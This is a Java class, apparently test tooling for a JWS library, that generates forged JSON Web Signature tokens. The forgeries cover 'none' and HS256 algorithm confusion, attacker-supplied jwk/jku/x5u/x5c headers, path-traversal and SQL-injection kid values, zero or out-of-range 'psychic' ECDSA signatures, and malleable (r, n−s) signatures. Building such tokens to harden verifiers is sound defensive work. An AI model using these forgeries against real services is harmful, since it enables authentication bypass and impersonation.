package org.dauys.attacks;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.dauys.protocol.group.Bytes;
import org.dauys.protocol.group.Point;
import org.dauys.protocol.jws.Base64Url;

/** Compact JWS that other libraries have believed. Each is signed as its header says, by whoever can. */
public final class ForgedTokens {
    private ForgedTokens() {}

    /** What a header says, and who can sign it so. */
    private interface Signer {
        byte[] sign(byte[] message) throws GeneralSecurityException;
    }

    /**
     * F01: the header chooses another algorithm.
     *
     * @param key the public key under which the reader verifies
     */
    public static Map<String, String> ofOtherAlgorithms(Point key, String keyId, String type, byte[] payload) {
        var signers = new LinkedHashMap<String, Signer>();
        for (var none : List.of("none", "None", "NONE", "nOnE", "")) {
            signers.put(none, message -> new byte[0]);
        }
        signers.put("HS256", message -> mac(key.encode(Point.Form.UNCOMPRESSED), message));
        signers.put("RS256", message -> fresh("RSA", 2048, "SHA256withRSA", message));
        signers.put("ES384", message -> fresh("EC", 384, "SHA384withECDSAinP1363Format", message));
        signers.put("EdDSA", message -> fresh("Ed25519", 255, "Ed25519", message));
        signers.put("es256", message -> fresh("EC", 256, "SHA256withECDSAinP1363Format", message));
        var tokens = new LinkedHashMap<String, String>();
        signers.forEach((algorithm, signer) ->
                tokens.put(algorithm, token(header(algorithm, keyId, type, ""), payload, signer)));
        return tokens;
    }

    /**
     * F03: the header brings the key that has signed the token, as it is or in a certificate, an address to ask for it, or a field that must be
     * understood; or it names a key by a curious id. All are signed by a stranger.
     *
     * @param address of a server that would be asked
     */
    public static Map<String, String> withKeysOfTheirOwn(String address, String keyId, String type, byte[] payload) {
        var brought = Map.of(
                "jwk", "\"jwk\":" + Stranger.jwk() + ",",
                "jku", "\"jku\":\"" + address + "\",",
                "x5u", "\"x5u\":\"" + address + "\",",
                "x5c", "\"x5c\":[\"" + Stranger.certificate() + "\"],",
                "crit", "\"crit\":[\"exp\"],\"exp\":1,");
        var tokens = new LinkedHashMap<String, String>();
        brought.forEach((name, fields) ->
                tokens.put(name, token(header("ES256", keyId, type, fields), payload, Stranger::sign)));
        for (var id : List.of("../../dev/null", "' or 1=1 --", "", "a".repeat(33), keyId + "\\u0000")) {
            tokens.put("kid " + id, token(header("ES256", id, type, ""), payload, Stranger::sign));
        }
        return tokens;
    }

    /** F02: signatures that a verifier takes which forgets to look whether r and s are in range. */
    public static Stream<byte[]> psychic() {
        var zero = BigInteger.ZERO;
        var one = BigInteger.ONE;
        return Stream.of(
                rs(zero, zero),
                rs(Encodings.N, Encodings.N),
                rs(zero, one),
                rs(one, zero),
                rs(Encodings.N, one),
                rs(one, Encodings.N),
                rs(zero, Encodings.N),
                rs(Encodings.N.subtract(one), Encodings.N.subtract(one)),
                new byte[0],
                new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0},
                new byte[] {0x30, 6, 2, 1, 1, 2, 1, 1},
                Bytes.concat(new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0}, new byte[56]),
                new byte[63],
                new byte[65]);
    }

    /** F06: {@code (r, n − s)} holds wherever {@code (r, s)} does. */
    public static String otherForm(String token) {
        var signature =
                Base64Url.decode(token.substring(token.lastIndexOf('.') + 1)).orElseThrow();
        int half = signature.length / 2;
        var s = new BigInteger(1, signature, half, half);
        var other = rs(new BigInteger(1, signature, 0, half), Encodings.N.subtract(s));
        return token.substring(0, token.lastIndexOf('.') + 1) + Base64Url.encode(other);
    }

    private static String header(String algorithm, String keyId, String type, String more) {
        return "{\"alg\":\"%s\",%s\"kid\":\"%s\",\"typ\":\"%s\"}".formatted(algorithm, more, keyId, type);
    }

    private static String token(String header, byte[] payload, Signer signer) {
        var signed = Base64Url.encode(header.getBytes(StandardCharsets.UTF_8)) + "." + Base64Url.encode(payload);
        try {
            return signed + "." + Base64Url.encode(signer.sign(signed.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException absent) {
            throw new IllegalStateException(absent);
        }
    }

    private static byte[] mac(byte[] key, byte[] message) throws GeneralSecurityException {
        var mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key, "HmacSHA256"));
        return mac.doFinal(message);
    }

    private static byte[] fresh(String kind, int size, String algorithm, byte[] message)
            throws GeneralSecurityException {
        var generator = KeyPairGenerator.getInstance(kind);
        if (!kind.equals("Ed25519")) {
            generator.initialize(size);
        }
        var signature = Signature.getInstance(algorithm);
        signature.initSign(generator.generateKeyPair().getPrivate());
        signature.update(message);
        return signature.sign();
    }

    private static byte[] rs(BigInteger r, BigInteger s) {
        return Bytes.concat(Encodings.number(r), Encodings.number(s));
    }
}
